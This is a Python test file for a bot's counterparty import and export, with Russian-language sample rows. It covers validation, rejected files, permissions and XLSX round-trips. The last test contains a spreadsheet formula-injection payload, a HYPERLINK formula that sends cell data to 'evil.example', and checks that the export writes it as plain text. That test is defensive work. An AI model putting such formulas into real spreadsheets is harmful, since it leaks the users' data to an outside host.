from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from bot.domain.errors import Forbidden, InvalidInput
from bot.domain.roles import Actor, Role
from bot.services.counterparties import files as counterparty_import
from bot.services.counterparties.files import ImportReport, RowStatus
from bot.services.staff import people
from bot.texts import Texts
from bot.views import counterparty_files
from storage.models import Counterparty
from tests.builders import Person
from tests.harness import TestApp

HEADER = "id,name,inn,kpp,category,city,address,phones,emails,contacts,deferral_days,manager,docs_per_month\n"  # noqa: E501


async def actor(app: TestApp, who: Person) -> Actor:
    return (await app.read(lambda uow: people.resolve_actor(uow, who.tg_user_id, ""))).actor


async def run(
    app: TestApp, content: bytes, name: str = "clients.csv", who: Person | None = None
) -> ImportReport:
    who = who or app.people.head
    if await app.read(lambda uow: uow.users.by_tg_id(who.tg_user_id)) is None:
        await app.add_person(who, Role.HEAD, "sales")
    me = await actor(app, who)

    async def read() -> bytes:
        return content

    async with app.app.make_uow() as uow:
        cmd = counterparty_import.ImportFile(me, name, len(content), read)
        return await counterparty_import.import_counterparties(cmd, uow, app.clock)


async def cards(app: TestApp) -> list[Counterparty]:
    return list(await app.read(lambda uow: uow.counterparties.all()))


async def test_shared_file_imports_and_a_second_run_only_updates(
    app: TestApp, data_dir: Path
) -> None:
    await app.add_person(Person(900020, "Ирина", "Лебедева"), Role.MANAGER, "sales")
    content = (data_dir / "counterparties.csv").read_bytes()
    first = await run(app, content)
    assert first.count(RowStatus.CREATED) == 80
    assert first.count(RowStatus.REJECTED) == 0
    romashka = next(c for c in await cards(app) if c.external_id == "CP-001")
    assert (romashka.inn, romashka.deferral_days, romashka.category) == (
        "3528972289",
        14,
        "end_user",
    )
    assert romashka.manager_id is not None  # "Лебедева Ирина Олеговна" is the staff member
    phones = await app.read(lambda uow: uow.counterparties.phones(romashka.id))
    assert [(p.e164, p.extension) for p in phones] == [
        ("+78202710457", "208"),
        ("+79218662011", None),
    ]
    second = await run(app, content)
    assert (second.count(RowStatus.CREATED), second.count(RowStatus.UPDATED)) == (0, 80)
    assert len(await cards(app)) == 80


async def test_cp1251_csv_with_semicolons_and_russian_headers(app: TestApp) -> None:
    text = (
        "Контрагенты на 23.11.2026\n"
        "Код;Наименование;ИНН;КПП;Тип клиента;Город;Телефон;Эл. почта;Отсрочка, дней\n"
        "A-1;ООО «Ёлка»;3528972289;352801001;дилер;Вологда;8 (8172) 75-43-21 доб. 12;"
        "Info@Elka.ru;30\n"
    )
    report = await run(app, text.encode("cp1251"))
    [line] = report.lines
    assert line.status is RowStatus.CREATED
    [card] = await cards(app)
    assert (card.name, card.category, card.deferral_days, card.city) == (
        "ООО «Ёлка»",
        "dealer",
        30,
        "Вологда",
    )
    assert card.external_id == "A-1"


async def test_xlsx_import(app: TestApp) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Наименование", "ИНН", "Город", "Телефоны"])
    sheet.append(["АО «Прогресс-Механика»", 3525844426, "Вологда", "+7 911 5673406"])
    buffer = io.BytesIO()
    book.save(buffer)
    report = await run(app, buffer.getvalue(), name="export.xlsx")
    assert [line.status for line in report.lines] == [RowStatus.CREATED]
    [card] = await cards(app)
    assert card.inn == "3525844426"


async def test_broken_rows_are_rejected_with_reasons_and_the_rest_imported(app: TestApp) -> None:
    await app.add_counterparty("ООО «Старый клиент»", phones=["+79005553311"], city="Тверь")
    rows = (
        ",ООО «Хорошая»,3528972289,,,Вологда,,,,,,,\n"
        ",ООО «Плохой ИНН»,3528972288,,,Вологда,,,,,,,\n"
        ",ООО «Короткий»,35289,,,Вологда,,,,,,,\n"
        ",ООО «Телефон»,,,,Вологда,,12-34,,,,,\n"
        ",,,,,Вологда,,,,,,,\n"
        ",ООО «Категория»,,,космонавты,,,,,,,,\n"
        ",ООО «Повтор»,3528972289,,,Вологда,,,,,,,\n"
        ",Старый клиент,,,,Тверь,,8 900 555-33-11,,,,,\n"
    )
    report = await run(app, (HEADER + rows).encode())
    outcome = [(line.line, line.status.value, line.reason) for line in report.lines]
    assert outcome == [
        (2, "created", None),
        (3, "rejected", "error-inn"),
        (4, "rejected", "error-inn"),
        (5, "rejected", "import-bad-phone"),
        (6, "rejected", "client-name-empty"),
        (7, "rejected", "client-bad-category"),
        (8, "duplicate", "import-dup-row"),
        (9, "duplicate", None),
    ]
    assert report.lines[1].params == {"reason": "checksum"}
    assert report.lines[2].params == {"reason": "length"}
    assert report.lines[7].other == "ООО «Старый клиент»"
    assert sorted(c.name for c in await cards(app)) == ["ООО «Старый клиент»", "ООО «Хорошая»"]
    texts = Texts.load("ru")
    text, _ = counterparty_files.report_text(texts, report)
    assert "отклонено 5" in text
    assert "не сходится контрольная цифра" in text


NOT_TABLES = (
    ("photo.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "table-unreadable"),
    ("notes.csv", "просто текст\nбез таблицы\n".encode(), "import-not-a-table"),
    ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "table-xls"),
    ("broken.xlsx", b"PK\x03\x04garbage", "table-unreadable"),
    ("empty.csv", HEADER.encode(), "import-empty"),
    ("report.pdf", b"%PDF-1.4", "import-bad-type"),
)


async def test_not_a_table_is_refused_and_nothing_written(app: TestApp) -> None:
    for name, content, key in NOT_TABLES:
        with pytest.raises(InvalidInput) as error:
            await run(app, content, name=name)
        assert error.value.key == key, name
    assert await cards(app) == []


async def test_big_file_is_refused_before_download(app: TestApp) -> None:
    await app.add_person(app.people.head, Role.HEAD, "sales")
    me = await actor(app, app.people.head)
    downloads = []

    async def read() -> bytes:
        downloads.append(1)
        return b""

    async with app.app.make_uow() as uow:
        with pytest.raises(InvalidInput) as error:
            await counterparty_import.import_counterparties(
                counterparty_import.ImportFile(me, "big.csv", 100 * 1024 * 1024, read),
                uow,
                app.clock,
            )
    assert error.value.key == "import-too-big"
    assert error.value.params["size"] == "100,0"
    assert downloads == []


async def test_manager_cannot_import(app: TestApp) -> None:
    await app.add_person(app.people.manager, Role.MANAGER, "sales")
    with pytest.raises(Forbidden):
        await run(app, HEADER.encode(), who=app.people.manager)


async def test_export_reads_back_as_an_import(app: TestApp, data_dir: Path) -> None:
    await run(app, (data_dir / "counterparties.csv").read_bytes())
    me = await actor(app, app.people.head)
    rows = await app.read(lambda uow: counterparty_import.export_counterparties(me, uow))
    content = counterparty_files.export_xlsx(Texts.load("ru"), rows)
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    assert sheet["B2"].value == "ООО «Ромашка»"
    assert sheet["E2"].value == "конечный потребитель"
    again = await run(app, content, name="export.xlsx")
    assert again.count(RowStatus.UPDATED) == 80
    assert again.count(RowStatus.REJECTED) == 0
    names = await app.read(lambda uow: uow.session.scalars(select(Counterparty.name)))
    assert len(list(names)) == 80


async def test_export_writes_formula_like_text_as_text(app: TestApp) -> None:
    """A name such as ``=HYPERLINK(…)`` (a stranger's Telegram name can become one) is exported
    as the text it is, never as a live formula; the report file too."""
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Открыть")'
    row = f'x1,"{evil.replace(chr(34), chr(34) * 2)}",,,,+Тверь,-1+1,,,@Иванов,,,\n'
    report = await run(app, (HEADER + row).encode())
    assert report.count(RowStatus.CREATED) == 1
    me = await actor(app, app.people.head)
    rows = await app.read(lambda uow: counterparty_import.export_counterparties(me, uow))
    texts = Texts.load("ru")
    for content in (
        counterparty_files.export_xlsx(texts, rows),
        counterparty_files.report_xlsx(texts, report),
    ):
        sheets = zipfile.ZipFile(io.BytesIO(content))
        assert b"<f>" not in sheets.read("xl/worksheets/sheet1.xml")
        book = load_workbook(io.BytesIO(content))
        sheet = book.active
        assert sheet is not None
        cells = [c for r in sheet.iter_rows() for c in r if isinstance(c.value, str)]
        assert evil in [c.value for c in cells]
        assert all(c.data_type == "s" for c in cells)
    sheet = load_workbook(io.BytesIO(counterparty_files.export_xlsx(texts, rows))).active
    assert sheet is not None
    assert [sheet["F2"].value, sheet["G2"].value] == ["+Тверь", "-1+1"]
